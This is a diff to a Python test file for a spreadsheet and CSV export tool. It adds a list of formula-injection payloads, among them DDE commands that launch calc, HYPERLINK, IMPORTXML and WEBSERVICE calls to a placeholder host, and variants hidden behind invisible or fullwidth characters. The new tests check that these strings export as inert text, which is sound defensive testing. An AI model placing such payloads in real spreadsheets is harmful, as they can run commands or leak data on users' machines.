@@ -1,5 +1,6 @@
 """Every file of the plan opens in LibreOffice, which reckons the same totals as we wrote down."""
 
+import csv
 import io
 import re
 import zipfile
@@ -14,6 +15,7 @@ from facilitator import exports
 from facilitator.domain.bbc.money import as_columns
 from facilitator.domain.bbc.words import Credit, Entity, Flow
 from facilitator.domain.plan.columns import ColumnProfile
+from facilitator.domain.plan.inert import uninert
 from facilitator.domain.plan.item import Field
 from facilitator.exports.json_file import json_plan
 from tests.exports.rich_plan import rich
@@ -22,6 +24,13 @@ from tests.plan_cast import item, line, plan
 
 FORMULA = re.compile(rb"(<c [^>]*>)(<f>.*?</f>)<v>[^<]*</v>")
 EVIL = '=HYPERLINK("http://x";"y")'  # fmt: skip
+# What has been tried on spreadsheets: formulas, links, DDE, and the same behind blanks, quotes and wide or unseen signs.
+INJECTIONS = (
+    "=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x";"klik")', "=cmd|'/C calc'!A0", "|calc", "%0A=1", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x",A1),"//a")', '=WEBSERVICE("http://x")', "+491234567", " =1+1", "\u00a0=1+1",
+    "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "''=1+1", "\"'=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u3000=1+1", "=1+1;=2+2",
+    "a\n=1+1", '=DDE("cmd";"/C calc";"x")', '=1+1";=2+2', "- een streepje", "'s avonds", "0703", "1e5", "1/2", "TRUE", "#REF!", "_x0041_",
+)  # fmt: skip
 OWN = ColumnProfile("pakket", {
     "Acties": (("U_totaal", "Totaal"), ("U_2031", "=1+1"), ("U_2026", "U_2026"), ("saldo", "saldo"), ("actie_id", "id")),
     "Ramingen": (("bedrag", "bedrag"), ("soort", "soort"), ("boekjaar", "boekjaar"), ("actie_id", "id")),
@@ -42,6 +51,14 @@ def many_kinds():
                   "wijziging": ["nieuw", "gewijzigd"][n % 2], "prioritair": n % 3 == 0, "motivering_wijziging": EVIL}  # fmt: skip
         items.append(item(f"i{n}", f"Open digipunt {n}", (*lines, line(2040, "5")), **fields))
     return plan(*items)
+
+
+def evil():
+    """A plan of which every text is an attempt, and every other column of the same."""
+    return plan(*(
+        item(f"i{n}", text, (line(2026, "1", description=text, project=text),), dienst=text, AC_code=text, AC_commentaar=text, BD_kort=text)
+        for n, text in enumerate(INJECTIONS)
+    ))  # fmt: skip
 
 
 def uncached(content):
@@ -82,6 +99,7 @@ BOOKS = {
     "kern": lambda: exports.write(many_kinds(), "xlsx", "kern"),
     "own": lambda: exports.write(many_kinds(), "xlsx", columns=OWN),
     "rich": lambda: exports.write(rich(), "xlsx"),
+    "evil": lambda: exports.write(evil(), "xlsx"),
     "empty": lambda: exports.write(plan(), "xlsx"),
 }
 
@@ -101,6 +119,8 @@ def office(tmp_path_factory):
     for name, content in {"plan": exports.write(rich(), "docx"), "leeg": exports.write(plan(), "docx")}.items():
         papers.append(folder / f"{name}.docx")
         papers[-1].write_bytes(content)
+    sheets.append(folder / "csv-evil.csv")
+    sheets[-1].write_bytes(exports.write(evil(), "csv"))
     reckoned = {name: file.read_bytes() for name, file in converted(folder, "xlsx", *sheets).items()}
     return books, reckoned, converted(folder, "pdf", *papers)
 
@@ -122,6 +142,7 @@ def test_no_cell_holds_an_error_and_every_text_is_as_we_wrote_it(office, name):
     books, reckoned, _ = office
     ours, theirs = values(books[name]), values(reckoned[f"{name}.xlsx"])
 
+    assert formulas(reckoned[f"{name}.xlsx"]) == formulas(books[name])
     assert list(theirs) == list(ours)
     for sheet, rows in ours.items():
         read = theirs[sheet]
@@ -130,8 +151,30 @@ def test_no_cell_holds_an_error_and_every_text_is_as_we_wrote_it(office, name):
             assert [each for each in other if isinstance(each, str)] == [each for each in row if isinstance(each, str)]
     assert not any(
         isinstance(cell, str) and re.match(r"#(REF|NAME|VALUE|DIV|N/A|NUM)|Err:", cell)
-        for rows in theirs.values() for row in rows for cell in row
+        for rows in theirs.values() for row in rows for cell in row if cell != "#REF!"
     )  # fmt: skip
+
+
+def test_an_attempt_on_a_spreadsheet_is_a_text_that_stays_as_it_was_typed(office):
+    books, reckoned, _ = office
+    ours, rows = values(books["evil"])["Acties"], next(iter(values(reckoned["csv-evil.csv"]).values()))
+
+    for name in ("AC_korte_omschrijving", "AC_code", "dienst", "AC_commentaar"):
+        assert [row[ours[0].index(name)] for row in ours[1:]] == list(INJECTIONS)
+    assert {sheet for sheet, *_ in formulas(books["evil"])} == {"Acties"}
+    assert {ours[0][column] for _, _, column in formulas(books["evil"])} == {"U_totaal", "O_totaal", "saldo"}
+    assert formulas(reckoned["csv-evil.csv"]) == []
+    assert len(rows) >= len(ours)
+
+
+def test_csv_gives_every_text_back_as_it_was_typed():
+    lines = exports.write(evil(), "csv").decode("utf-8-sig")
+    head, *rows = csv.reader(io.StringIO(lines, newline=""), delimiter=";")
+
+    for name in ("AC_korte_omschrijving", "AC_code", "dienst", "AC_commentaar", "BD_kort"):
+        told = [row[head.index(name)] for row in rows]
+        assert [uninert(cell) for cell in told] == list(INJECTIONS)
+        assert not any(cell[:1] in "=+-@\t\r|" for cell in told)
 
 
 def test_the_sums_of_a_year_are_the_same_in_workbook_and_json():
